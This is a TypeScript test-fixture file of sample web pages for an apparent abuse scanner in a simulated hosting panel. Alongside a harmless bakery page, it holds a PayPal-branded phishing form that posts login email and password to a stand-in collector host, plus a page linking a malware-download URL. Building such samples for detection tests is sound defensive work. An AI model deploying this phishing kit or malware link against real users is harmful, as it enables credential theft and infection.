// Pages the fake WHM's web front serves in the demo and in tests: an ordinary site, a credential-phishing kit and a
// page that links the URLhaus sandbox's listed download. The abuse scan's tests read the same pages.

export const CLEAN_PAGE = `<!doctype html><html><head><title>Jane's bakery</title></head><body>
<h1>Fresh bread daily</h1><p>Open Tuesday to Saturday, 7 to 14.</p>
<form action="/contact.php" method="post"><input name="email"><textarea name="message"></textarea><button>Send</button></form>
<a href="https://wordpress.org/">Powered by WordPress</a></body></html>`;

export const KIT_PAGE = `<!doctype html><html><head><title>PayPal: Log in to your account</title></head><body>
<h1>PayPal</h1><p>Log in to your account to continue.</p>
<form method="post" action="https://collector.example.net/rezult/next.php">
<input type="email" name="login_email"><input type="password" name="login_password"><button>Log In</button>
</form></body></html>`;

/** Listed by the URLhaus sandbox (online, malware_download). */
export const URLHAUS_LISTED_URL = 'http://203.0.113.66/bins/mozi.m';

export const BAD_LINK_PAGE = `<!doctype html><html><head><title>Free tools</title></head><body>
<h1>Useful downloads</h1><p>Get the updater here:</p><a href="${URLHAUS_LISTED_URL}">updater</a></body></html>`;
